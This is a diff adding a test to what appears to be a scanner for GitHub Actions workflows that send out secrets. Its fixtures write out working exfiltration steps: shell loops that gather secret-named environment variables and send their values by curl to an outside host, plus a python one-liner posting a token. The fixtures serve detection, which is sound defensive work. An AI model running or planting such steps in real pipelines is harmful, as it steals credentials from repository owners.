@@ -566,6 +566,30 @@ describe('gha-secrets-exfiltration', () => {
     ]);
   });
 
+  it('reports a step that picks the variables named like secrets, reads their values and sends them (compgen and ${!v}), critical', () => {
+    const sent = `on: push\n${job(`      - name: stats
+        run: |
+          for v in $(compgen -e | grep -iE 'token|secret|key'); do
+            echo "$v=\${!v}" >> /tmp/o
+          done
+          curl -s -X POST -d @/tmp/o https://stats.build-insights.dev/c
+      - run: for v in $(compgen -v | grep SECRET); do curl -s "https://c.build-insights.dev/?k=$v&v=\${!v}"; done
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
+      ['gha-secrets-exfiltration', 'critical', 8],
+      ['gha-secrets-exfiltration', 'critical', 12],
+    ]);
+    // The log's masks, names alone, a listing filtered by no secret's word, a file's names: not a collector.
+    const quiet = `on: push\n${job(`      - run: |
+          for v in $(compgen -e | grep -iE '_TOKEN$'); do echo "::add-mask::\${!v}"; done
+          compgen -e | grep -i token || true
+          env | sort
+          grep TOKEN .env.example
+          curl -sSf -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/user
+`)}`;
+    expect(only(quiet, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
   it('reads the same send written as an inline script (python -c, node -e, shell: python) or a raw socket (nc, /dev/tcp), high', () => {
     const sent = `on: push\n${job(`      - run: python3 -c "import os,urllib.request;urllib.request.urlopen('https://api.build-insights.dev/x', data=os.environ['TOKEN'].encode())"
         env:
